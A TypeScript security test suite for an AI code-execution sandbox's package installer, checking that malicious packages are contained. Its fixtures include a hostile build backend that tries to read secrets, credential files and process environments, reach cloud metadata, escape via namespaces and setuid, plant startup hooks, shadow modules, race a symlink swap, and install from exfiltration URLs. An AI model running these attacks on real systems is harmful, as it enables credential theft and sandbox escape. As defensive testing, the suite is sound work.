import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { once } from "node:events";
import { existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";

import { afterAll, beforeAll, describe, expect, inject, test } from "vitest";

import { errorCodeOf, TestClient, TestDirectory, textOf } from "../helpers/client.ts";
import { SessionUnderAttack } from "./session-under-attack.ts";

const PASSWORD = "password-of-the-index";
const sha256 = (content: Buffer) => createHash("sha256").update(content).digest("hex");
/** What the index offers: the second was exchanged after its hash was published. */
const WHEELS: Readonly<Record<string, { readonly content: Buffer; readonly sha256: string }>> = {
  honest: { content: makeWheel("honest"), sha256: sha256(makeWheel("honest")) },
  exchanged: { content: makeWheel("exchanged"), sha256: sha256(makeWheel("honest")) },
};
/** A project whose file is endlessly long in coming. */
const SLOW = "slow";
/** A project of which there is a source archive, as a cell has made it. */
const STRANGER = "stranger";
/** What was asked for, of the user's index and of a server that nobody allowed. */
const asked: string[] = [];
let index: Server;
let attacked: SessionUnderAttack;
beforeAll(async () => {
  index = createServer((request, response) => {
    asked.push(request.url ?? "");
    const [, kind, name = ""] = (request.url ?? "").split("/");
    const wheel = WHEELS[name.replace(/-1-py3-none-any.whl$/, "")];
    if (kind === "files" && name.startsWith(SLOW)) return; // and never answers
    if (name === STRANGER) response.end(`<a href="/files/${STRANGER}-1.tar.gz">${STRANGER}-1.tar.gz</a>`);
    else if (name === `${STRANGER}-1.tar.gz`) response.end(readFileSync(join(attacked.workspace, name)));
    else if (name === SLOW) response.end(`<a href="/files/${SLOW}-1-py3-none-any.whl">${SLOW}-1-py3-none-any.whl</a>`);
    else if (wheel === undefined) response.writeHead(404).end();
    else if (kind === "files") response.end(wheel.content);
    else
      response.end(`<a href="/files/${name}-1-py3-none-any.whl#sha256=${wheel.sha256}">${name}-1-py3-none-any.whl</a>`);
  });
  index.listen(0, "127.0.0.1");
  await once(index, "listening");
  attacked = await SessionUnderAttack.open({
    args: ["--index-url", `http://user:${PASSWORD}@127.0.0.1:${port()}/simple/`],
    prepare: (workspace, directory) => {
      writeFileSync(join(workspace, ".env"), "KEY=secret-of-the-workspace\n");
      writeFileSync(join(directory.path, "outside.txt"), "outside");
    },
    env: { SECRET_OF_SERVER: "secret-of-the-server" },
  });
  await attacked.client.text(MAKE_PACKAGES);
});
afterAll(async () => {
  await attacked[Symbol.asyncDispose]();
  index.closeAllConnections();
  index.close();
});

const port = () => (index.address() as AddressInfo).port; // a TCP server has one
const install = (package_name: string) => attacked.client.call("install_package", { package_name });

describe("a package that is built: its build", () => {
  let loot: Record<string, string>;
  beforeAll(async () => {
    expect(textOf(await install("./evil"))).toContain("Installed evil 1");
    loot = await lootOf("evil");
  });

  /** What the build of a package wrote down. */
  async function lootOf(name: string): Promise<Record<string, string>> {
    const read = `import ${name} as it; print(open(it.__file__.replace(".py", ".json")).read())`;
    return JSON.parse(await attacked.client.text(read, { max_output_chars: 1_000_000 })) as Record<string, string>;
  }

  test.for([
    ["internet", /^refused/],
    ["metadata", /^refused/],
    ["dns", /^refused: gaierror/],
    ["proxied metadata", /^refused/],
    ["proxied loopback", /^refused/],
    ["proxied stranger", /^refused/],
    ["workspace write", /^refused: OSError: \[Errno 30\]/],
    ["image write", /^refused: (OSError: \[Errno 30\]|PermissionError)/],
    ["masked file", /^succeeded: ''$/],
    ["init's environment", /^refused: (PermissionError|FileNotFoundError)/],
    ["tools", /^refused: FileNotFoundError/],
    ["setuid", /^refused: PermissionError/],
    ["user namespace", /^refused: PermissionError/],
    ["capabilities", /CapBnd:\\t0000000000000000/],
  ] as const)("gets nowhere: %s", ([attempt, outcome]) => {
    expect(loot[attempt]).toMatch(outcome);
  });

  test("sees the workspace only where it lies in it: what comes from elsewhere could take it there", async () => {
    expect(textOf(await install(STRANGER))).toContain("Installed stranger 1");
    const taken = await lootOf(STRANGER);
    expect(taken["workspace"]).toBe("succeeded: []");
    expect(taken["workspace by its own path"]).toMatch(/^refused: FileNotFoundError/);
    for (const place of ["workspace", "workspace by its own path"]) expect(loot[place]).toContain("'.env', 'evil'");
  });

  test("sees no credential and no variable of the server", () => {
    const everything = JSON.stringify(loot);
    for (const secret of [PASSWORD, "secret-of-the-server", "secret-of-the-workspace"]) {
      expect(everything).not.toContain(secret);
    }
  });

  test("shares no cache with other installs, and the one on the host takes nothing from it", async () => {
    expect(loot["caches"]).toMatch(/^succeeded: \[\]$/);
    expect(loot["writes to the index"]).toBe(`succeeded: [405, 405, 405, 405, 404, 404, 404]`);
    expect(textOf(await install("honest"))).toContain("Installed honest 1");
    expect(await attacked.client.text("import honest; honest.name")).toBe("'honest'");
    const result = await install("exchanged");
    expect(errorCodeOf(result)).toBe("install-failed");
    const cache = join(attacked.directory.path, "state/ipybox/wheels");
    const kept = readdirSync(cache).map((name) => sha256(readFileSync(join(cache, name))));
    expect(kept).toEqual([WHEELS["honest"]?.sha256]);
  });
});

describe("a package that arrives", () => {
  test("runs nothing at a kernel's start: neither .pth files nor sitecustomize", async () => {
    expect(textOf(await install("./startup-1-py3-none-any.whl"))).toContain("Left out: startup.pth");
    await attacked.client.call("reset");
    expect(await attacked.tries(`[os.path.exists("/tmp/ran-at-start"), "startup" in sys.modules]`)).toBe(
      "succeeded: [False, False]",
    );
    expect(await attacked.tries(`import startup\nstartup.here`)).toBe("succeeded: True");
  });

  test("takes no module's place: not the image's, not the standard library's", async () => {
    await install("./shadow-1-py3-none-any.whl");
    await attacked.client.call("reset");
    expect(
      await attacked.tries(
        `import numpy, json, ipybox_sandbox\n[m.__file__.startswith("/opt/ipybox/packages") for m in (numpy, json, ipybox_sandbox)]`,
      ),
    ).toBe("succeeded: [False, False, False]");
  });

  test("is on the path of kernels alone: no helper takes a module of the volume, the workspace or the environment", async () => {
    const code = `[b"-I" in pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\\0") for pid in (1, pid_of("gateway"), pid_of("fork_server"))]`;
    expect(await attacked.tries(code)).toBe("succeeded: [True, True, True]");
    expect(await attacked.tries(`"/opt/ipybox/packages/current" in sys.path`)).toBe("succeeded: True");
  });

  test("brings no setuid program", async () => {
    expect(
      await attacked.tries(
        `subprocess.run("find /opt/ipybox/packages/ -perm /6000", shell=True, capture_output=True).stdout`,
      ),
    ).toBe("succeeded: b''");
  });

  test("from outside the workspace, by a path, a link or a link that was swapped in, is refused", async () => {
    const outside = join(attacked.directory.path, "outside.txt");
    await attacked.client.text(`os.symlink("${outside}", "link-1-py3-none-any.whl"); os.symlink("/etc", "directory")`);
    for (const source of [outside, "../outside.txt", "./link-1-py3-none-any.whl", "./directory"]) {
      const result = await install(source);
      expect(errorCodeOf(result)).toMatch(/invalid-requirement|install-failed/);
    }
    await attacked.client.text(`import shutil, subprocess
shutil.copytree("evil", "swapped"); os.symlink("/etc", "aside")
swapper = subprocess.Popen([sys.executable, "-c", """
import ctypes
exchange = ctypes.CDLL(None).renameat2
while exchange(-100, b"swapped", -100, b"aside", 2) == 0: pass
"""])`);
    const result = await install("./swapped");
    const ended = await attacked.client.text("print(swapper.poll()); swapper.kill(); _ = swapper.wait()");
    expect(ended).toBe("None");
    expect(textOf(result)).not.toContain("root:");
    expect(await attacked.tries(`glob.glob("/opt/ipybox/packages/current/*passwd*")`)).toBe("succeeded: []");
  });
});

describe("a cell that installs can't choose where to", () => {
  const FOREIGN = "Code in a cell can't install from example.org";
  test.for([
    ["a URL that carries data out", "https://example.org/?data=secret", FOREIGN],
    ["a wheel on a server of its choice", "https://example.org/x-1-py3-none-any.whl", FOREIGN],
    ["a git host of its choice", "git+https://example.org/x.git", FOREIGN],
    ["a requirement with a URL", "'x @ https://example.org/x-1.tar.gz'", FOREIGN],
    ["a host of the user's own", "https://127.0.0.1/x-1.tar.gz", "127.0.0.1 is no public host name"],
    ["a server without TLS", "http://example.org/x-1.tar.gz", "only https:// and git+https://"],
    ["another index", "--index-url https://example.org/simple x", "takes no options here: --index-url"],
    ["a requirements file", "-r requirements.txt", "takes no options here: -r"],
    ["an editable source", "-e git+https://example.org/x.git#egg=x", "takes no options here: -e"],
    ["another index, past the magic", "BRIDGE --index-url=https://example.org/simple", "options are not admitted"],
  ] as const)("%s", async ([, requirement, reason]) => {
    const before = asked.length;
    const past = `from ipybox_sandbox import bridge; bridge.install("x ${requirement.replace("BRIDGE ", "")}")`;
    const code = requirement.startsWith("BRIDGE") ? past : `%pip install ${requirement}`;
    expect(textOf(await attacked.client.cell(code))).toContain(reason);
    expect(asked).toHaveLength(before);
  });

  test("and neither can the model, but for public https hosts", async () => {
    for (const requirement of [
      "git+ssh://git@example.org/x.git",
      `git+https://127.0.0.1:${port()}/x.git`,
      "git+file:///etc",
      "x @ file:///etc/passwd",
    ]) {
      expect((await install(requirement)).isError).toBe(true);
    }
    expect(asked.filter((path) => path.includes("x.git"))).toEqual([]);
  });
});

test("an install that is cancelled leaves the packages as they were, and keeps no other waiting", async () => {
  await install("honest");
  const packages = () =>
    attacked.tries(
      `os.readlink("/opt/ipybox/packages/current"), sorted(os.listdir("/opt/ipybox/packages/current")), sorted(os.listdir("/opt/ipybox/packages"))`,
    );
  const before = await packages();
  const cancel = new AbortController();
  const cancelled = attacked.client.call("install_package", { package_name: SLOW }, { signal: cancel.signal });
  await expect.poll(() => asked.some((path) => path.startsWith(`/files/${SLOW}`)), { timeout: 30_000 }).toBe(true);
  cancel.abort();
  await expect(cancelled).rejects.toThrow();
  // What it had begun is removed by then, too: another install would only begin after that.
  await expect.poll(packages, { timeout: 10_000 }).toBe(before);
  expect(textOf(await install("honest"))).toContain("Nothing to do");
});

test("no configuration of pip's is read from the workspace, where a cell can plant it, though it is from elsewhere", async () => {
  using directory = new TestDirectory();
  const workspace = directory.make("workspace");
  for (const [environment, isAsked] of [
    [directory.make("workspace/.venv"), false],
    [directory.make("environment"), true],
  ] as const) {
    const extra = `extra-index-url = http://127.0.0.1:${port()}/simple/`;
    writeFileSync(join(environment, "pip.conf"), `[global]\n${extra}\n`);
    const env = { VIRTUAL_ENV: environment };
    await using client = await TestClient.connect({ bin: inject("ipyboxBin"), directory, workspace, env });
    const before = asked.length;
    const result = await client.call("install_package", { package_name: "no-such-package-of-the-attempt" });
    expect(result.isError).toBe(true);
    expect(asked.slice(before).length > 0).toBe(isAsked);
  }
});

test("no credential of the index is anywhere in the workspace or in a cell's answer", async () => {
  const result = await install("no-such-package-of-the-test");
  expect(result.isError).toBe(true);
  expect(JSON.stringify(result)).not.toContain(PASSWORD);
  expect(asked).toContain("/simple/no-such-package-of-the-test/");
  expect(existsSync(join(attacked.workspace, "evil.json"))).toBe(false);
  expect(readFileSync(join(attacked.workspace, ".env"), "utf8")).toBe("KEY=secret-of-the-workspace\n");
});

/** A wheel of one module that knows its name. */
function makeWheel(name: string): Buffer {
  const code = `import io, sys, zipfile
name, out = sys.argv[1], io.BytesIO()
with zipfile.ZipFile(out, "w") as archive:
    for path, content in {
        f"{name}.py": f"name = '{name}'",
        f"{name}-1.dist-info/METADATA": f"Metadata-Version: 2.1\\nName: {name}\\nVersion: 1\\n",
        f"{name}-1.dist-info/WHEEL": "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
        f"{name}-1.dist-info/RECORD": f"{name}.py,,\\n",
    }.items():
        archive.writestr(zipfile.ZipInfo(path), content)
sys.stdout.buffer.write(out.getvalue())`;
  return execFileSync("python3", ["-c", code, name]);
}

/** A source tree whose build attacks, and wheels with what must not be run or replaced. */
const MAKE_PACKAGES = String.raw`
import os, tarfile, zipfile
def wheel(name, files):
    with zipfile.ZipFile(f"{name}-1-py3-none-any.whl", "w") as archive:
        for path, content in files.items():
            entry = zipfile.ZipInfo(path)
            entry.external_attr = 0o104755 << 16  # setuid, as far as the archive says
            archive.writestr(entry, content)
        archive.writestr(f"{name}-1.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1\n")
        archive.writestr(f"{name}-1.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr(f"{name}-1.dist-info/RECORD", "".join(f"{path},,\n" for path in files))
wheel("startup", {"startup.py": "here = True", "startup.pth": "import os; open('/tmp/ran-at-start', 'w')\n",
                  "sitecustomize.py": "open('/tmp/ran-at-start', 'w')", "usercustomize.py": "open('/tmp/ran-at-start', 'w')"})
wheel("shadow", {"shadow.py": "", "numpy/__init__.py": "evil = True", "json.py": "evil = True", "ipybox_sandbox/__init__.py": "evil = True"})
def source(name):
    os.makedirs(name, exist_ok=True)
    open(f"{name}/pyproject.toml", "w").write(f'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "{name}"\nversion = "1"\n')
    open(f"{name}/PKG-INFO", "w").write(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1\n")
    open(f"{name}/backend.py", "w").write(BACKEND.replace("evil", name).replace("OWN_PATH", os.getcwd()))
BACKEND = r'''
import ctypes, glob, http.client, json, os, pathlib, socket, urllib.request, zipfile
libc = ctypes.CDLL(None, use_errno=True)
def tries(action):
    try:
        return f"succeeded: {action()!r}"
    except BaseException as error:
        return f"refused: {type(error).__name__}: {error}"
def connected(address, family=socket.AF_INET):
    with socket.socket(family) as stream:
        stream.settimeout(3)
        stream.connect(address)
        return "connected"
def proxied(target):
    """Through whatever forwarder the installer listens on."""
    ports = {int(line.split()[1].split(":")[1], 16) for line in open("/proc/net/tcp").read().splitlines()[1:] if line.split()[3] == "0A"}
    answers = []
    for port in ports:
        with socket.create_connection(("127.0.0.1", port), 3) as stream:
            stream.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
            answers.append(stream.recv(200).decode())
    if not any(" 200 " in answer.split("\r\n")[0] + " " for answer in answers):
        raise ConnectionRefusedError(str(answers))
    return answers
def checked(result):
    if result == -1: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
WRITES = [(method, "/index/0/simple/honest/") for method in ("PUT", "POST", "PATCH", "DELETE")] + [
    ("GET", "/index/0/files/" + "0" * 32 + "/honest-1-py3-none-any.whl"), ("GET", "/index/0/files/../../../etc/passwd"),
    ("GET", "http://example.org/index/0/simple/honest/")]
def status(method, path):
    """What the host's index proxy answers, through the forwarder."""
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        if line.split()[3] != "0A": continue
        connection = http.client.HTTPConnection("127.0.0.1", int(line.split()[1].split(":")[1], 16), timeout=5)
        connection.request(method, path, body=b"poison" if method != "GET" else None)
        return connection.getresponse().status
ATTEMPTS = {
    "environment": lambda: dict(os.environ),
    "files of ours": lambda: [(p, open(p, errors="replace").read()[:2000]) for p in glob.glob("/run/ipybox/*") + glob.glob(os.path.expanduser("~/.*")) + ["/etc/pip.conf", "/root/.netrc"] if os.path.isfile(p)],
    "command lines": lambda: [pathlib.Path(p).read_bytes().decode() for p in glob.glob("/proc/[0-9]*/cmdline")],
    "environments": lambda: [tries(pathlib.Path(p).read_text) for p in glob.glob("/proc/[0-9]*/environ")],
    "caches": lambda: [p for p in glob.glob("/opt/ipybox/packages/*cache*") + glob.glob("/run/ipybox/*cache*")],
    "writes to the index": lambda: [status(method, path) for method, path in WRITES],
    "internet": lambda: connected(("1.1.1.1", 443)),
    "metadata": lambda: connected(("169.254.169.254", 80)),
    "dns": lambda: socket.getaddrinfo("example.org", 443),
    "proxied metadata": lambda: proxied("169.254.169.254:80"),
    "proxied loopback": lambda: proxied("127.0.0.1:22"),
    "proxied stranger": lambda: proxied("example.org:443"),
    "workspace": lambda: sorted(os.listdir("/workspace")),
    "workspace by its own path": lambda: sorted(os.listdir("OWN_PATH")),
    "workspace write": lambda: open("/workspace/evil.json", "w"),
    "image write": lambda: open("/opt/ipybox/lib/ipybox_sandbox/x.py", "w"),
    "masked file": lambda: open("/workspace/.env").read(),
    "init's environment": lambda: open("/proc/1/environ").read(),
    "tools": lambda: connected("/run/ipybox/tools.sock", socket.AF_UNIX),
    "setuid": lambda: os.chmod(__file__, 0o4755),
    "user namespace": lambda: checked(libc.unshare(0x10000000)),
    "capabilities": lambda: open("/proc/self/status").read(),
}
def build_wheel(directory, config_settings=None, metadata_directory=None):
    loot = {name: tries(action) for name, action in ATTEMPTS.items()}
    with zipfile.ZipFile(os.path.join(directory, "evil-1-py3-none-any.whl"), "w") as archive:
        archive.writestr("evil.py", "")
        archive.writestr("evil.json", json.dumps(loot))
        archive.writestr("evil-1.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1\n")
        archive.writestr("evil-1.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr("evil-1.dist-info/RECORD", "evil.py,,\nevil.json,,\n")
    return "evil-1-py3-none-any.whl"
'''
source("evil")
source("stranger")
with tarfile.open("stranger-1.tar.gz", "w:gz") as archive: archive.add("stranger", "stranger-1")
`;
